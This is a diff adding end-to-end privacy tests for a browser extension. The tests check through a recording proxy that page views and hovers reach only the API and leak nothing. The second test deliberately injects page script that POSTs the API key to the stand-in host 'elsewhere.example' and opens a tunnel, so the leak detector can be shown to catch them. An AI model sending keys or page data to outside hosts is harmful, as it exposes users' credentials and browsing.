@@ -1,0 +1,141 @@
+import type { LocalExplorer } from '../explorer/local-explorer.ts';
+import { startLocalExplorer } from '../explorer/start-local-explorer.ts';
+import { startChromium } from './driver/chromium.ts';
+import type { DrivenPage, Driver } from './driver/driver.ts';
+import { startFirefox } from './driver/firefox.ts';
+import { hover } from './driver/hands.ts';
+import { prefer, storeAddress, storeKey } from './driver/set-up.ts';
+import { until } from './driver/until.ts';
+import { build, expect, named, test } from './story.ts';
+import { findLeaks } from './wire/find-leaks.ts';
+import { startRecordingProxy } from './wire/recording-proxy.ts';
+import {
+  isOfSession,
+  type Place,
+  pageHosts,
+  placesOn,
+  startSessionPages,
+  toPageUrl,
+  viewsAtOnce,
+} from './wire/session-pages.ts';
+
+const views = 1_000;
+// Ten things are hovered on each twentieth of them.
+const viewsPerStop = 50;
+
+/** A browser of its own that reaches everything through a proxy, set up with a key, and what it has sent so far. */
+type Wired = { driver: Driver; api: LocalExplorer; apiRequests(): string[]; leaks(): string[] };
+
+async function wired(browserKind: Driver['name'], run: (world: Wired) => Promise<void>): Promise<void> {
+  // A hundred lookups shall not wait for a small plan's rate.
+  const api = await startLocalExplorer({ key: 'proapi_on_the_wire_only', requestsPerSecond: 100 });
+  // It would see people again if they let it.
+  api.behave({ headers: { 'set-cookie': 'person=1; Path=/' } });
+  const pages = await startSessionPages();
+  const proxy = await startRecordingProxy(Object.fromEntries(pageHosts.map((host) => [host, pages.port])));
+  const options = { proxy: proxy.address };
+  const driver = await (browserKind === 'chromium'
+    ? startChromium({ ...options, executablePath: named('CHROMIUM'), extensionDir: build('chrome-mv3') })
+    : startFirefox({ ...options, executablePath: named('FIREFOX'), extensionDir: build('firefox-mv3') }));
+  const apiHost = new URL(api.url).host;
+  try {
+    await storeAddress(driver, api.url);
+    await storeKey(driver, api.key);
+    await run({
+      driver,
+      api,
+      apiRequests: () => proxy.sent.filter(({ host }) => host === apiHost).map(({ url }) => url),
+      leaks: () => findLeaks(proxy.sent, { pageHosts, isOfPages: isOfSession, apiHost, apiKey: api.key }),
+    });
+  } finally {
+    await driver.close();
+    await Promise.all([proxy, pages, api].map((server) => server.close()));
+  }
+}
+
+/** Shows ten more pages, and waits until Hashlens has looked at each. */
+async function view(page: DrivenPage, first: number): Promise<void> {
+  await page.goto(toPageUrl(first));
+  const isLooked = () => page.evaluate((all) => Reflect.get(globalThis, 'looked') === all, viewsAtOnce);
+  await until(`the ${viewsAtOnce} pages from ${first} on are looked at`, isLooked, 30_000);
+}
+
+/** Rests on a place until its card has its answer, and closes that. */
+async function rest(page: DrivenPage, { id, name }: Place): Promise<void> {
+  await hover(page, `#${id}`);
+  await until(`a card named "${name}" has its answer`, async () => {
+    const [card, second] = await page.cards();
+    return second === undefined && card?.name === name && !card.busy && card.text !== '' && card.alerts.length === 0;
+  });
+  await page.press('Escape');
+}
+
+test('of 1,000 page views and 200 hovers only the API hears, once of each unknown, and nothing about the pages', async ({
+  browserKind,
+}) => {
+  test.setTimeout(400_000);
+  await wired(browserKind, async ({ driver, apiRequests, leaks }) => {
+    await prefer(driver, { showAfterMs: 100 });
+    const page = await driver.openPage('about:blank');
+    let hovers = 0;
+    let expected = 0;
+    const hoverAll = async (places: Place[], requestsEach: number) => {
+      for (const place of places) {
+        await rest(page, place);
+        hovers += 1;
+        expected += requestsEach;
+        expect(apiRequests().length, `after ${place.name}`).toBe(expected);
+      }
+    };
+
+    for (let first = 0; first < views; first += viewsAtOnce) {
+      await view(page, first);
+      expect(apiRequests().length, `after page ${first}`).toBe(expected);
+      if (first % viewsPerStop > 0) continue;
+      const { final, moving } = placesOn(first);
+      await hoverAll([...final, ...moving], 1);
+      // Whatever is final is known from now on, on every page.
+      await hoverAll([...final, ...final.slice(1)], 0);
+    }
+
+    expect(hovers).toBe(200);
+    expect(expected).toBe(100);
+    expect(new Set(apiRequests()).size).toBe(expected);
+    expect(leaks()).toEqual([]);
+  });
+});
+
+test('what a page sends by itself to the API or elsewhere is found on the wire', async ({ browserKind }) => {
+  test.setTimeout(120_000);
+  await wired(browserKind, async ({ driver, api, leaks }) => {
+    const page = await driver.openPage(toPageUrl(1));
+    expect(leaks()).toEqual([]);
+    const hash = `0x${'0'.repeat(64)}`;
+
+    await page.evaluate(
+      (apiUrl, key, path) => {
+        const send = (url: string, init: RequestInit = {}) =>
+          void fetch(url, { mode: 'no-cors', ...init }).catch(() => {});
+        send(`${apiUrl}${path}?apikey=${key}&page=${encodeURIComponent(location.href)}`);
+        send('http://elsewhere.example/', { method: 'POST', body: key });
+        send('https://tunnel.example/');
+      },
+      api.url,
+      api.key,
+      `/1/api/v2/transactions/${hash}`,
+    );
+
+    await expect
+      .poll(leaks)
+      .toEqual(
+        expect.arrayContaining([
+          expect.stringMatching(/^the parameter page: GET http:\/\/127/),
+          expect.stringMatching(/^the header referer: GET http:\/\/127/),
+          expect.stringMatching(/^the page’s host bank\.example: GET http:\/\/127/),
+          'nobody asked for it: POST http://elsewhere.example/',
+          'the key goes elsewhere: POST http://elsewhere.example/',
+          'nobody asked for it: CONNECT tunnel.example:443',
+        ]),
+      );
+  });
+});
